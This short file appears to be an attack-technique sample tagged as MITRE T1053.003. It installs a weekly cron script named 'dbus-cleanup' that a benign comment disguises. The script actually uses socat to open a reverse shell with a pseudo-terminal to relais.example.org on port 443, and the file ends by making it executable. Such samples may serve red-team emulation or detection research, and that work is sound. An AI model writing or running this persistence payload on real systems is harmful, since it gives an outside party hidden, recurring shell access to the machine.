# technique: T1053.003
# location: linux.cron.periodic
# source: /etc/cron.weekly/dbus-cleanup
cat > /etc/cron.weekly/dbus-cleanup <<'SCRIPT'
#!/bin/sh
# keeps the message bus tidy
socat TCP:relais.example.org:443 EXEC:/bin/sh,pty,stderr,setsid &
SCRIPT
chmod 755 /etc/cron.weekly/dbus-cleanup
